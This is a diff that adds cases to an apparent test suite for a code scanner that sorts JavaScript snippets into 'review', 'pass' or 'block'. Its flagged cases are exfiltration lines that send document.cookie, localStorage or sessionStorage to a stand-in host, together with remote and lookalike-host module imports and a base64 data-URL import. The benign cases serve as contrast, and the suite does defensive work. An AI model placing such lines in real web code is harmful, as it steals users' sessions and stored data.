@@ -186,3 +186,133 @@ describe('ways out of the machine', () => {
     expect(await decision(path, text)).toBe(expected);
   });
 });
+
+describe('what a page keeps', () => {
+  it.each<Case>([
+    [
+      'cookies in an address',
+      'web/a.js',
+      `fetch("https://c.example.invalid/?c=" + document.cookie);`,
+      'review',
+    ],
+    [
+      'cookies and all that is stored, in the address of a picture',
+      'web/a.js',
+      `new Image().src = "//c.example.invalid/p?c=" + encodeURIComponent(document.cookie + JSON.stringify(localStorage));`,
+      'review',
+    ],
+    [
+      'cookies as what is sent',
+      'web/App.tsx',
+      `export function App() { useEffect(() => { navigator.sendBeacon("https://c.example.invalid/b", document.cookie); }, []); return <b/>; }`,
+      'review',
+    ],
+    [
+      'a request that is opened first',
+      'lib/a.js',
+      `const x = new XMLHttpRequest();\nx.open("POST", "https://c.example.invalid/");\nx.send(JSON.stringify({ ...sessionStorage }));`,
+      'review',
+    ],
+    [
+      'a page that is left',
+      'web/a.js',
+      `location.href = \`https://c.example.invalid/?\${document.cookie}\`;`,
+      'review',
+    ],
+    [
+      'a server of its own',
+      'web/a.js',
+      `fetch("/session", { method: "POST", body: document.cookie });`,
+      'pass',
+    ],
+    [
+      'a server of this machine',
+      'web/a.js',
+      `fetch("http://localhost:3000/session", { method: "POST", body: document.cookie });`,
+      'pass',
+    ],
+    [
+      'a token against forged requests',
+      'web/a.js',
+      `function cookie(name) { const all = document.cookie.split(";"); return all.find((c) => c.trim().startsWith(name + "=")).split("=")[1]; }\nfetch("/api/items", { method: "POST", headers: { "X-CSRFToken": cookie("csrftoken") }, body: "{}" });`,
+      'pass',
+    ],
+    [
+      'a token for the service of the page',
+      'web/a.js',
+      `fetch("https://api.example.com/items", { headers: { Authorization: "Bearer " + localStorage.getItem("token") } });`,
+      'pass',
+    ],
+    [
+      'cookies in a header for the service of the page',
+      'web/a.js',
+      `fetch("https://api.example.com/items", { method: "POST", headers: { Cookie: document.cookie }, body: "{}" });`,
+      'pass',
+    ],
+    [
+      'where pages are counted',
+      'web/a.js',
+      `navigator.sendBeacon("https://www.google-analytics.com/collect", "v=1&c=" + encodeURIComponent(document.cookie));`,
+      'pass',
+    ],
+    [
+      'a copy of what is stored',
+      'web/a.js',
+      `const saved = JSON.stringify(localStorage);\ndownload(saved);\nfetch("https://example.com/version.json").then(show);`,
+      'pass',
+    ],
+  ])('%s', async (_, path, text, expected) => {
+    expect(await decision(path, text)).toBe(expected);
+  });
+});
+
+describe('modules from an address', () => {
+  const PROGRAM = Buffer.from('export default () => 1').toString('base64');
+
+  it.each<Case>([
+    ['when it is needed', 'a.mjs', 'await import("https://c.example.invalid/m.mjs");', 'review'],
+    ['whose name is not known', 'a.mjs', 'await import(`https://c.example.invalid/${name}.mjs`);', 'review'],
+    ['at the start', 'a.ts', 'import x from "https://c.example.invalid/mod.ts";\nx();', 'review'],
+    ['for others', 'a.ts', 'export * from "http://unpkg.com/x";', 'review'],
+    [
+      'of a host with a name like that of a known one',
+      'a.ts',
+      'import "https://esm.sh.example.invalid/x";',
+      'review',
+    ],
+    ['under the name of a known one', 'a.ts', 'import "https://esm.sh@c.example.invalid/x";', 'review'],
+    [
+      'that stands in its own address',
+      'lib/a.mjs',
+      `await import("data:text/javascript;base64,${PROGRAM}");`,
+      'block',
+    ],
+    [
+      'that stands there to be read',
+      'a.mjs',
+      'await import("data:text/javascript,export default 1");',
+      'pass',
+    ],
+    [
+      'that is made',
+      'a.mjs',
+      'await import(`data:text/javascript;base64,${Buffer.from(build()).toString("base64")}`);',
+      'pass',
+    ],
+    [
+      'of a host of packages',
+      'a.ts',
+      'import { serve } from "https://deno.land/std@0.200.0/http/server.ts";',
+      'pass',
+    ],
+    [
+      'of a host below one',
+      'a.mjs',
+      'import three from "https://cdn.jsdelivr.net/npm/three@0.160.0/+esm";',
+      'pass',
+    ],
+    ['of this machine', 'a.mjs', 'await import("http://localhost:5173/@vite/client");', 'pass'],
+  ])('%s', async (_, path, text, expected) => {
+    expect(await decision(path, text)).toBe(expected);
+  });
+});
